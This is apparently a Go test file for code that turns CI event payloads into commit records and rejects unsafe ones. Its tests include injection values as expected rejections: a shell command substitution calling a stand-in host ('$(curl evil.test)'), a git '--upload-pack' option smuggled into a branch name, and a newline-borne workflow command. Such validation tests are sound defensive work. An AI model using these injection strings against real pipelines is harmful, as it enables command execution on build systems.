package change

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const head = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"

func payloadFile(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name+".json"))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestFromEventGivesTheHeadCommit(t *testing.T) {
	pull := Change{
		Repository: "acme/checkout", Event: "pull_request", PullRequest: 7, Head: head,
		HeadRef: "feature/free-shipping", BaseRef: "main", Title: "Ship for free above 50 ::error::@all", Author: "ada",
	}
	review := pull
	review.Event = "pull_request_review"
	for _, test := range []struct {
		name, event, file string
		want              Change
	}{
		{"a push: the commit that is on the branch after it", "push", "push", Change{
			Repository: "acme/checkout", Event: "push", Head: head, HeadRef: "feature/free-shipping", Title: "Ship for free above 50", Author: "ada",
		}},
		{"a pull request: its head and never the merge commit", "pull_request", "pull_request", pull},
		{"an approval: the pull request's head and author", "pull_request_review", "review_approved", review},
		{"a merge queue: the commit that would land", "merge_group", "merge_group", Change{
			Repository: "acme/checkout", Event: "merge_group", Head: head, BaseRef: "main", Author: "ada",
			HeadRef: "gh-readonly-queue/main/pr-7-6113728f27ae82c7b1a177c8d03f9e96e0adf246",
		}},
		{"a person: no commit, for the payload has none", "workflow_dispatch", "dispatch", Change{
			Repository: "acme/checkout", Event: "workflow_dispatch", HeadRef: "main", Author: "ada",
		}},
		{"a person: the commit that the input names", "workflow_dispatch", "dispatch_commit", Change{
			Repository: "acme/checkout", Event: "workflow_dispatch", Head: head, HeadRef: "main", Author: "ada",
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			got, err := FromEvent(test.event, payloadFile(t, test.file))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestFromEventRefuses(t *testing.T) {
	t.Run("events that name no change, with those that do", func(t *testing.T) {
		_, err := FromEvent("issues", []byte(`{}`))
		var refusal *Refusal
		if !errors.As(err, &refusal) || !strings.Contains(refusal.Fix, "push, pull_request") {
			t.Errorf("got %v", err)
		}
	})
	t.Run("pull_request_target, which gives secrets to strangers", func(t *testing.T) {
		_, err := FromEvent("pull_request_target", payloadFile(t, "pull_request"))
		var refusal *Refusal
		if !errors.As(err, &refusal) {
			t.Errorf("got %v", err)
		}
	})
	t.Run("hostile hashes and names, all at once and quoted", func(t *testing.T) {
		got, err := FromEvent("pull_request", payloadFile(t, "pull_request_hostile"))
		if err == nil || got != (Change{}) {
			t.Fatalf("got %+v, %v", got, err)
		}
		for _, want := range []string{`head.sha "$(curl evil.test)"`, `head.ref "--upload-pack=x"`, `base.ref "main\n::error::x"`} {
			if !strings.Contains(err.Error(), want) {
				t.Errorf("%q is not in %v", want, err)
			}
		}
	})
	for name, payload := range map[string]string{
		"what is not JSON":           `{`,
		"a payload without anything": `{}`,
		"a path as repository":       `{"ref":"refs/heads/x","after":"` + head + `","repository":{"full_name":"acme/../x"}}`,
		"a repository named ..":      `{"ref":"refs/heads/x","after":"` + head + `","repository":{"full_name":"acme/.."}}`,
		"a short hash":               `{"ref":"refs/heads/x","after":"1a2b3c4","repository":{"full_name":"acme/x"}}`,
		"an upper-case hash":         `{"ref":"refs/heads/x","after":"` + strings.ToUpper(head) + `","repository":{"full_name":"acme/x"}}`,
		"a hash with a newline":      `{"ref":"refs/heads/x","after":"` + head + `\n","repository":{"full_name":"acme/x"}}`,
	} {
		t.Run(name, func(t *testing.T) {
			if got, err := FromEvent("push", []byte(payload)); err == nil || got != (Change{}) {
				t.Errorf("got %+v, %v", got, err)
			}
		})
	}
	for _, event := range []string{"pull_request", "pull_request_review", "merge_group", "workflow_dispatch"} {
		t.Run("a payload of another event as "+event, func(t *testing.T) {
			_, err := FromEvent(event, []byte(`{"action":"submitted","repository":{"full_name":"acme/x"},"review":{"state":"approved"}}`))
			if err == nil {
				t.Error("no error")
			}
		})
	}
}

func TestAt(t *testing.T) {
	c, err := Change{HeadRef: "main"}.At(head)
	if err != nil || c.Head != head || c.HeadRef != "main" {
		t.Errorf("got %+v, %v", c, err)
	}
	if _, err := c.At("HEAD"); err == nil {
		t.Error("HEAD is no commit hash")
	}
}

func FuzzFromEvent(f *testing.F) {
	for _, name := range []string{"push", "pull_request", "review_approved", "merge_group", "dispatch_commit"} {
		data, err := os.ReadFile(filepath.Join("testdata", name+".json"))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(name, data)
	}
	f.Fuzz(func(t *testing.T, _ string, data []byte) {
		for event := range readers {
			c, err := FromEvent(event, data)
			if err != nil && c != (Change{}) {
				t.Errorf("an error with a change: %+v", c)
			}
			if err == nil && event != "workflow_dispatch" && CheckCommit("head", c.Head) != nil {
				t.Errorf("the head %q went through", c.Head)
			}
		}
	})
}
